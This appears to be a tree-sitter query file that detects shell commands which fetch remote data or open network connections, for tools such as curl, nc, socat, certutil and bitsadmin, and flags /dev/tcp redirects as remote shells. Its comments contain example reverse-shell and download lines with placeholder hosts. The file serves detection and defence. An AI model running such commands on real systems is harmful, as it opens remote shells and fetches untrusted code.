; More commands that fetch.

; http URL   xh URL: writes to standard output, unless -o names a file
((command_name) @source.fetcher
  (#word-is? @source.fetcher "http" "https" "xh" "xhs")
  (#set! writes "stdout")
  (#set! output "-o --output")
  (#set! address "host")
  (#set! values "-a -p --print --cert-key")
  (#set! idle "-h --headers --help --version --offline HEAD -p=h --print=h -p=H --print=H -p=B --print=B -p=HB --print=HB -p=Hh --print=Hh -p=hH --print=hH -p=HBh --print=HBh -p=m --print=m -p=hm --print=hm"))

; curlie URL   curl.exe URL
((command_name) @source.fetcher
  (#word-like? @source.fetcher "curlie" "curl.exe")
  (#set! options "curl"))

; wget.exe -qO- URL
((command_name) @source.fetcher
  (#word-like? @source.fetcher "wget.exe")
  (#set! options "wget"))

; fetch -o - URL
((command_name) @source.fetcher
  (#word-is? @source.fetcher "fetch")
  (#set! writes "file")
  (#set! output "-o --output")
  (#set! address "host")
  (#set! values "-i -N"))

; aria2c URL   axel URL: writes to a file, unless -o names /dev/stdout
((command_name) @source.fetcher
  (#word-is? @source.fetcher "aria2c" "axel")
  (#set! writes "file")
  (#set! output "-o")
  (#set! stdout "/dev/stdout"))

; GET URL   lwp-request URL
((command_name) @source.fetcher
  (#word-is? @source.fetcher "GET" "lwp-request")
  (#set! writes "stdout")
  (#set! address "host")
  (#set! values "-m")
  (#set! idle "-d -h -v -m=HEAD"))

; lynx -source URL   w3m -dump_source URL   elinks -source URL
((command_name) @source.fetcher
  (#word-is? @source.fetcher "lynx" "w3m" "links" "elinks")
  (#set! writes "nothing")
  (#set! prints "-source -dump -dump_source -dump_extra")
  (#set! address "site")
  (#set! values "-T"))

; nc HOST PORT   nc -l PORT: prints what the other end sends   nc -e /bin/sh HOST PORT
((command_name) @source.fetcher
  (#word-is? @source.fetcher "nc" "ncat" "netcat" "nc.exe" "ncat.exe")
  (#set! options "nc"))

; telnet HOST PORT
((command_name) @source.fetcher
  (#word-is? @source.fetcher "telnet")
  (#set! writes "stdout")
  (#set! values "-b -e -l -n -S -X"))

; socat - TCP:HOST:PORT   socat TCP:HOST:PORT EXEC:/bin/sh
((command_name) @source.fetcher
  (#word-is? @source.fetcher "socat")
  (#set! writes "stdout")
  (#set! hands "EXEC: SYSTEM: SHELL:")
  (#set! needs "TCP: TCP4: TCP6: TCP-CONNECT: TCP4-CONNECT: TCP6-CONNECT: TCP-LISTEN: TCP4-LISTEN: TCP6-LISTEN: TCP-L: TCP4-L: UDP: UDP4: UDP-LISTEN: UDP-RECV: OPENSSL: OPENSSL-CONNECT: OPENSSL-LISTEN: SSL: SSL-L: PROXY: PROXY-CONNECT: SOCKS4: SOCKS4A: SOCKS5: VSOCK-CONNECT:")
  (#set! idle "-h -V"))

; openssl s_client -quiet -connect HOST:PORT
((command_name) @source.fetcher
  (#word-is? @source.fetcher "openssl")
  (#set! subcommand "s_client")
  (#set! writes "stdout"))

; dig +short TXT NAME
((command_name) @source.fetcher
  (#word-is? @source.fetcher "dig" "kdig" "drill")
  (#set! writes "stdout")
  (#set! needs "TXT"))

; finger USER@HOST
((command_name) @source.fetcher
  (#word-is? @source.fetcher "finger")
  (#set! writes "stdout")
  (#set! address "user"))

; host -t TXT NAME   nslookup -type=TXT NAME
((command_name) @source.fetcher
  (#word-is? @source.fetcher "host" "nslookup")
  (#set! writes "stdout")
  (#set! needs "-t=TXT -q=TXT -type=TXT -querytype=TXT")
  (#set! values "-t -q -type -querytype"))

; gh gist view -r ID
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gh")
  (#set! subcommand "gist view")
  (#set! writes "stdout")
  (#set! needs "-r --raw")
  (#set! values "-f --filename")
  (#set! idle "-w --web --files --help"))

; gh api PATH
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gh")
  (#set! subcommand "api")
  (#set! writes "stdout")
  (#set! idle "--silent --help"))

; gh release download TAG -p NAME -O -
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gh")
  (#set! subcommand "release download")
  (#set! writes "file")
  (#set! output "-O --output")
  (#set! values "-R --repo"))

; git archive --remote=URL HEAD FILE
((command_name) @source.fetcher
  (#word-is? @source.fetcher "git")
  (#set! subcommand "archive")
  (#set! writes "stdout")
  (#set! needs "--remote")
  (#set! output "-o --output")
  (#set! values "-C -c --git-dir"))

; ipfs cat PATH   rclone cat REMOTE:PATH   mc cat ALIAS/PATH
((command_name) @source.fetcher
  (#word-is? @source.fetcher "ipfs" "rclone" "mc" "mcli")
  (#set! subcommand "cat")
  (#set! writes "stdout")
  (#set! values "--config --api --config-dir"))

; svn cat URL
((command_name) @source.fetcher
  (#word-is? @source.fetcher "svn")
  (#set! subcommand "cat")
  (#set! writes "stdout"))

; gsutil cat gs://BUCKET/FILE
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gsutil")
  (#set! subcommand "cat")
  (#set! writes "stdout")
  (#set! values "-o -u"))

; gsutil cp gs://BUCKET/FILE -
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gsutil")
  (#set! subcommand "cp")
  (#set! writes "file")
  (#set! into "last")
  (#set! values "-o -u"))

; gcloud storage cat gs://BUCKET/FILE
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gcloud")
  (#set! subcommand "storage cat")
  (#set! writes "stdout")
  (#set! values "--project --account --configuration"))

; gcloud storage cp gs://BUCKET/FILE -
((command_name) @source.fetcher
  (#word-is? @source.fetcher "gcloud")
  (#set! subcommand "storage cp")
  (#set! writes "file")
  (#set! into "last")
  (#set! values "--project --account --configuration"))

; aws s3 cp s3://BUCKET/FILE -
((command_name) @source.fetcher
  (#word-is? @source.fetcher "aws")
  (#set! subcommand "s3 cp")
  (#set! writes "file")
  (#set! into "last")
  (#set! values "--region --profile --endpoint-url --sse-c-key --expected-size"))

; az storage blob download -c CONTAINER -n NAME --file /dev/stdout
((command_name) @source.fetcher
  (#word-is? @source.fetcher "az")
  (#set! subcommand "storage blob download")
  (#set! writes "file")
  (#set! output "-f --file"))

; ftp -o - URL
((command_name) @source.fetcher
  (#word-is? @source.fetcher "ftp")
  (#set! writes "file")
  (#set! output "-o"))

; tftp -g -l - -r FILE HOST
((command_name) @source.fetcher
  (#word-is? @source.fetcher "tftp")
  (#set! writes "file")
  (#set! needs "-g")
  (#set! output "-l"))

; ssh HOST cat FILE
((command_name) @source.remote
  (#word-is? @source.remote "ssh"))

; bash -i >& /dev/tcp/HOST/PORT 0>&1   cat < /dev/tcp/HOST/PORT
(file_redirect
  destination: [
    (word)
    (concatenation)
    ] @source.socket
  (#match? @source.socket "^\\/dev\\/(tcp|udp)\\/.+$")
  (#set! rule "bash/remote-shell"))

; sh < "/dev/tcp/$HOST/$PORT"
(file_redirect
  destination: (string) @source.socket
  (#match? @source.socket "^\"\\/dev\\/(tcp|udp)\\/.+$")
  (#set! rule "bash/remote-shell"))

; irm URL   Invoke-WebRequest -Uri URL: PowerShell commands in prose or in shell code
((command_name) @source.fetcher
  (#word-like? @source.fetcher "irm" "iwr" "invoke-restmethod" "invoke-webrequest")
  (#set! writes "stdout")
  (#set! output "-OutFile -o -O")
  (#set! values "-Method -method -Body -ContentType"))

; certutil -urlcache -split -f URL FILE
((command_name) @source.fetcher
  (#word-like? @source.fetcher "certutil" "certutil.exe")
  (#set! writes "file")
  (#set! address "url")
  (#set! needs "-urlcache -verifyctl")
  (#set! flags "-split -f")
  (#set! into "last"))

; bitsadmin /transfer NAME URL FILE
((command_name) @source.fetcher
  (#word-like? @source.fetcher "bitsadmin" "bitsadmin.exe")
  (#set! writes "file")
  (#set! address "url")
  (#set! needs "/transfer /addfile")
  (#set! into "last"))
